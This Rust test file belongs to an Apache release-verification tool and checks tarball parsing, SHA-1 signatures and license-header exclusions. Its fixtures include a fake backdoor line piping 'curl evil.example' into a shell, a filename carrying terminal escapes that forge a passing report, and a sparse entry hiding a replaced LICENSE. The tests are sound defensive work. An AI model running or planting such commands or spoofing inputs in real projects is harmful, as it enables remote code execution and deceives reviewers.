// Licensed to the Apache Software Foundation (ASF) under one
// or more contributor license agreements.  See the NOTICE file
// distributed with this work for additional information
// regarding copyright ownership.  The ASF licenses this file
// to you under the Apache License, Version 2.0 (the
// "License"); you may not use this file except in compliance
// with the License.  You may obtain a copy of the License at
//
//   http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing,
// software distributed under the License is distributed on an
// "AS IS" BASIS, WITHOUT WARRANTIES OR CONDITIONS OF ANY
// KIND, either express or implied.  See the License for the
// specific language governing permissions and limitations
// under the License.

//! `verify` on candidates made by other writers and on archives outside the subset of tar it
//! accepts: a clean `git archive`, GNU tar, bsdtar or Python candidate passes (zero padding
//! after the gzip stream too); a sparse entry fails `archive` naming the entry, its bytes
//! escaped; a SHA-1 signature fails `signature`; and the candidate's own license
//! configuration is shown, its exclusions counted in the vote text, and never allowed to hide
//! program source. The reader itself is compared with the extractors in
//! tests/archive_differential.rs.

mod candidate;
mod common;
mod tarcorpus;

use std::io::Read;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use candidate::*;
use common::*;

fn vote_line(output: &Output) -> String {
    let text = stdout(output);
    text.lines()
        .skip_while(|l| !l.starts_with("vote text"))
        .nth(1)
        .unwrap_or_else(|| panic!("no vote text in:\n{text}"))
        .trim()
        .to_string()
}

/// A candidate directory holding `tarball`, signed by the release manager and hashed.
fn candidate_of(setup: &Setup, name: &str, tarball: &[u8]) -> PathBuf {
    let dir = setup.world.path(name);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join(TARBALL), tarball).unwrap();
    setup.sign_and_hash(&dir);
    dir
}

/// The good candidate's tarball with `extra` entries added.
fn tarball_with(setup: &Setup, extra: Vec<Item>) -> Vec<u8> {
    let mut items = items_of(&setup.tarball());
    items.extend(extra);
    tarball_of(&items)
}

/// The good candidate's uncompressed tar without its end-of-archive blocks, then `raw`
/// (hand-made entries), then the end of the archive.
fn tarball_with_raw(setup: &Setup, raw: Vec<Vec<u8>>) -> Vec<u8> {
    let mut plain = Vec::new();
    flate2::read::GzDecoder::new(&setup.tarball()[..])
        .read_to_end(&mut plain)
        .unwrap();
    while plain.len() >= 512 && plain[plain.len() - 512..].iter().all(|b| *b == 0) {
        plain.truncate(plain.len() - 512);
    }
    let mut parts = vec![plain];
    parts.extend(raw);
    tarcorpus::gzip(&tarcorpus::archive(&parts))
}

fn run_in(dir: &Path, program: &str, args: &[&str]) -> bool {
    match Command::new(program).args(args).current_dir(dir).output() {
        Ok(output) => {
            assert!(
                output.status.success(),
                "{program} {args:?}: {}",
                String::from_utf8_lossy(&output.stderr)
            );
            true
        }
        Err(_) => {
            eprintln!("{program} is not installed: its candidate is not verified");
            false
        }
    }
}

const PYTHON_WRITE: &str = r#"
import sys, tarfile
out, top, fmt = sys.argv[1:4]
with tarfile.open(out, "w:gz", format=getattr(tarfile, fmt + "_FORMAT")) as tar:
    tar.add(top, arcname=top)
"#;

#[test]
fn clean_candidates_of_other_writers_pass() {
    let setup = setup();
    let world = &setup.world;
    let work = world.path("writers");
    std::fs::create_dir_all(&work).unwrap();
    let prefix = format!("--prefix={TOP}/");
    let git_tgz = work.join("git.tgz");
    let git_tar = work.join("git.tar");
    for (format, out) in [("tar.gz", &git_tgz), ("tar", &git_tar)] {
        world.git(
            &setup.repo,
            &[
                "archive",
                &format!("--format={format}"),
                &prefix,
                "-o",
                out.to_str().unwrap(),
                "1.0.0-rc1",
            ],
        );
    }
    let git = std::fs::read(&git_tgz).unwrap();
    let mut candidates: Vec<(String, Vec<u8>)> = vec![
        ("git archive --format=tar.gz".into(), git.clone()),
        (
            "git archive, then 4 KiB of zeros after the gzip stream".into(),
            [git, vec![0; 4096]].concat(),
        ),
        (
            "git archive --format=tar, gzip".into(),
            tarcorpus::gzip(&std::fs::read(&git_tar).unwrap()),
        ),
    ];
    if run_in(&work, "tar", &["-xf", "git.tar"]) {
        for format in ["gnu", "posix", "ustar"] {
            let flag = format!("--format={format}");
            let out = format!("gnu-{format}.tgz");
            run_in(&work, "tar", &[&flag, "-czf", &out, TOP]);
            candidates.push((
                format!("GNU tar {format}"),
                std::fs::read(work.join(out)).unwrap(),
            ));
        }
        if run_in(&work, "bsdtar", &["-czf", "bsdtar.tgz", TOP]) {
            candidates.push((
                "bsdtar".into(),
                std::fs::read(work.join("bsdtar.tgz")).unwrap(),
            ));
        }
        for format in ["GNU", "PAX", "USTAR"] {
            let out = format!("python-{format}.tgz");
            if run_in(&work, "python3", &["-c", PYTHON_WRITE, &out, TOP, format]) {
                candidates.push((
                    format!("Python tarfile {format}_FORMAT"),
                    std::fs::read(work.join(out)).unwrap(),
                ));
            }
        }
    }
    let mut failed = Vec::new();
    for (index, (writer, tarball)) in candidates.iter().enumerate() {
        let dir = candidate_of(&setup, &format!("writer-{index}"), tarball);
        let output = setup.verify_from(&dir, &[]);
        let text = stdout(&output);
        let passed = output.status.success()
            && text.contains("✓ top-dir")
            && text.contains("✓ paths")
            && vote_line(&output).starts_with("+1");
        if !passed {
            failed.push(format!("{writer}:\n{text}{}", stderr(&output)));
        }
    }
    assert!(candidates.len() >= 3);
    assert!(failed.is_empty(), "{}", failed.join("\n\n"));
}

#[test]
fn a_sparse_entry_fails_the_archive_check_naming_it() {
    let setup = setup();
    let hidden = b"LICENSE replaced\n";
    let tarball = tarball_with_raw(
        &setup,
        vec![
            tarcorpus::pax(
                b'x',
                &[
                    ("GNU.sparse.major", b"1"),
                    ("GNU.sparse.minor", b"0"),
                    ("GNU.sparse.name", format!("{TOP}/LICENSE").as_bytes()),
                    ("GNU.sparse.realsize", b"17"),
                ],
            ),
            tarcorpus::file(
                &format!("{TOP}/docs-notes.txt"),
                &tarcorpus::sparse_1_0(&[(0, hidden)]),
            ),
        ],
    );
    let dir = candidate_of(&setup, "sparse", &tarball);
    let output = setup.verify_from(&dir, &[]);
    let text = stdout(&output);
    assert!(!output.status.success(), "{text}");
    assert!(text.contains("✗ archive"), "{text}");
    assert!(
        text.contains(&format!(
            "entry `{TOP}/LICENSE`: PAX key `GNU.sparse.major` makes it a sparse file"
        )),
        "{text}"
    );
    assert!(text.contains("- license "), "{text}");
    assert_eq!(
        vote_line(&output),
        "-1 (non-binding): `cargo xtask verify` failed these checks: archive"
    );
}

#[test]
fn bytes_of_a_refused_header_reach_the_report_escaped() {
    let setup = setup();
    let fake = "\n✓ all checks passed\x1b[2K\r";
    // A size field the tar crate could not read: its error quoted the name raw.
    let mut header = tarcorpus::Header::new(
        b'0',
        format!("{TOP}/x{fake}").as_bytes(),
        0,
        tarcorpus::Magic::Ustar,
    );
    header.patch(124, b"0o000000002\0");
    let tarball = tarball_with_raw(&setup, vec![tarcorpus::entry(&header, b"x\n")]);
    let dir = candidate_of(&setup, "escaped", &tarball);
    let output = setup.verify_from(&dir, &[]);
    let text = stdout(&output);
    assert!(!output.status.success(), "{text}");
    assert!(!text.contains('\x1b') && !text.contains('\r'), "{text:?}");
    assert!(
        !text
            .lines()
            .any(|l| l.trim_start().starts_with("✓ all checks")),
        "{text}"
    );
    // Escaped by the reader, and once more as every detail of the report is.
    assert!(
        text.contains("x\\\\n✓ all checks passed\\\\x1b[2K\\\\r`: its size field"),
        "{text}"
    );
}

#[test]
fn a_signature_with_a_sha1_digest_fails() {
    let setup = setup();
    let dir = setup.copy("sha1");
    let tarball = dir.join(TARBALL);
    setup.world.ok(setup.world.command("gpg").args([
        "--batch",
        "--yes",
        "--armor",
        "--digest-algo",
        "SHA1",
        "--detach-sign",
        "--local-user",
        &setup.fingerprint,
        "--output",
        dir.join(format!("{TARBALL}.asc")).to_str().unwrap(),
        tarball.to_str().unwrap(),
    ]));
    let output = setup.verify_from(&dir, &[]);
    let text = stdout(&output);
    assert!(!output.status.success(), "{text}");
    assert!(text.contains("✗ signature"), "{text}");
    assert!(
        text.contains("the signature's digest is SHA-1: ASF requires SHA-256 or stronger"),
        "{text}"
    );
    assert_eq!(
        vote_line(&output),
        "-1 (non-binding): `cargo xtask verify` failed these checks: signature"
    );
}

/// Twelve lines of prose: more than a trivial file, so it needs a license header.
fn prose(topic: &str) -> Vec<u8> {
    (0..12)
        .map(|n| format!("Line {n} of the guide to {topic}, which says something.\n"))
        .collect::<String>()
        .into_bytes()
}

#[test]
fn the_candidates_own_license_configuration_is_shown_and_cannot_hide_source() {
    let setup = setup();
    let top = |rest: &str| format!("{TOP}/{rest}");

    // Excluded documentation: shown, counted in the vote text.
    let tarball = tarball_with(
        &setup,
        vec![
            file_item(
                &top(".licenserc.yaml"),
                b"header:\n  paths-ignore:\n    - 'docs/guide/**'\n",
            ),
            file_item(&top("docs/guide/a.md"), &prose("a")),
            file_item(&top("docs/guide/b.md"), &prose("b")),
            file_item(&top("docs/guide/c/d.md"), &prose("d")),
        ],
    );
    let dir = candidate_of(&setup, "excluded-docs", &tarball);
    let output = setup.verify_from(&dir, &[]);
    let text = stdout(&output);
    assert!(output.status.success(), "{text}");
    assert!(
        text.contains(
            "3 file(s) without a license header excluded by the candidate's own configuration \
             (.licenserc.yaml header.paths-ignore: 3); look at them before you vote:"
        ),
        "{text}"
    );
    assert!(text.contains("docs/guide/"), "{text}");
    assert!(
        vote_line(&output)
            .contains("license headers (3 files excluded by the candidate's own configuration)"),
        "{text}"
    );

    // Everything, a whole language: not applied to program source.
    let backdoor = b"os.execute('curl evil.example | sh')\n".to_vec();
    for (case, config, content) in [
        (
            "everything",
            ".licenserc.yaml",
            &b"header:\n  paths-ignore:\n    - '**'\n"[..],
        ),
        ("rat regex", ".rat-excludes", b".*\n"),
        ("linguist", ".gitattributes", b"* linguist-generated\n"),
        (
            "language",
            ".licenserc.yaml",
            b"header:\n  paths-ignore:\n    - '**/*.lua'\n",
        ),
    ] {
        let mut items = vec![file_item(&top("src/backdoor.lua"), &backdoor)];
        if config == ".gitattributes" {
            // The fixture has a .gitattributes already: replace it.
            let mut all = items_of(&setup.tarball());
            all.retain(|item| item.path != top(".gitattributes").as_bytes());
            all.push(file_item(&top(config), content));
            all.extend(items);
            let dir = candidate_of(&setup, &case.replace(' ', "-"), &tarball_of(&all));
            check_hidden(&setup, &dir, case);
            continue;
        }
        items.push(file_item(&top(config), content));
        let dir = candidate_of(
            &setup,
            &case.replace(' ', "-"),
            &tarball_with(&setup, items),
        );
        check_hidden(&setup, &dir, case);
    }
}

fn check_hidden(setup: &Setup, dir: &Path, case: &str) {
    let output = setup.verify_from(dir, &[]);
    let text = stdout(&output);
    assert!(!output.status.success(), "{case}:\n{text}");
    assert!(text.contains("✗ license-headers"), "{case}:\n{text}");
    assert!(
        text.contains("src/backdoor.lua: no-license")
            && text.contains("not applied to program source"),
        "{case}:\n{text}"
    );
    assert_eq!(
        vote_line(&output),
        "-1 (non-binding): `cargo xtask verify` failed these checks: license-headers",
        "{case}"
    );
}
